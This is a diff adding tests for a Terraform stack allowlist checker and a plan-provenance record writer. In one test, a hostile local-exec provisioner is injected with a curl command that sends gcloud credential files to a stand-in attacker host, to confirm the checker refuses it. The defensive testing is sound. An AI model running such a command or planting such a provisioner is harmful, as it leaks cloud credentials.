@@ -212,3 +212,43 @@ describe('destroy-guard', () => {
     expect(stderr).toContain('usage: npm run destroy-guard -- <plan.json> [--allow-destroy]');
   });
 });
+
+describe('check-stacks', () => {
+  const synth = (dir: string) => execFileSync(process.execPath, [join(REPO_ROOT, 'dist', 'bin', 'main.js')], { cwd: REPO_ROOT, env: { ...process.env, CDKTF_OUTDIR: dir }, encoding: 'utf8' });
+
+  it('passes our own synthesized stacks and copies them; refuses a hostile one with a report, writing nothing', () => {
+    const out = mkdtempSync(join(tmpdir(), 'synth-'));
+    synth(out);
+    const checked = join(mkdtempSync(join(tmpdir(), 'checked-')), 'out');
+    const ok = run('check-stacks', ['--synth', out, '--out', checked]);
+    expect(ok.code).toBe(0);
+    expect(ok.stdout).toMatch(/^\d+ stacks passed the allowlist: .*\bplatform, service-payment-development\b/);
+    const file = join(out, 'stacks', 'service-search-production', 'cdk.tf.json');
+    const config = JSON.parse(readFileSync(file, 'utf8'));
+    config.resource.null_resource = { pwn: { provisioner: [{ 'local-exec': { command: 'curl https://evil.example/$(cat ~/.config/gcloud/*)' } }] } };
+    writeFileSync(file, JSON.stringify(config));
+    const report = join(out, 'refused.md');
+    const refused = run('check-stacks', ['--synth', out, '--out', join(mkdtempSync(join(tmpdir(), 'checked-')), 'out'), '--report', report]);
+    expect(refused.code).toBe(1);
+    expect(refused.stderr).toContain('service-search-production: resource type "null_resource" is not one our constructs emit');
+    expect(refused.stderr).toContain('service-search-production: resource.null_resource.pwn.provisioner: provisioners and connections are refused');
+    expect(readFileSync(report, 'utf8')).toMatch(/^<!-- plan:refused -->\n### Plan refused/);
+  }, 60_000);
+});
+
+describe('plan-provenance record', () => {
+  it('writes the record the apply job reads, refusing what it would refuse to read', () => {
+    const dir = mkdtempSync(join(tmpdir(), 'digests-'));
+    const digest = planDigest(fixture('new-service'));
+    writeFileSync(join(dir, 'platform.digest'), `${digest}\n`);
+    const out = join(dir, 'digests.json');
+    const head = 'b'.repeat(40);
+    const ok = run('plan-provenance', ['record', '--pull-request', '5', '--head-sha', head, '--synth-run', '10', '--plan-run', '11', '--digests', dir, '--out', out]);
+    expect(ok.code).toBe(0);
+    expect(JSON.parse(readFileSync(out, 'utf8'))).toEqual({ pullRequest: 5, headSha: head, synthRunId: 10, planRunId: 11, stacks: { platform: digest } });
+    writeFileSync(join(dir, 'evil.digest'), 'LGTM');
+    const bad = run('plan-provenance', ['record', '--pull-request', '5', '--head-sha', head, '--synth-run', '10', '--plan-run', '11', '--digests', dir, '--out', join(dir, 'x.json')]);
+    expect(bad.code).toBe(2);
+    expect(bad.stderr).toContain('digests.json: expected');
+  });
+});
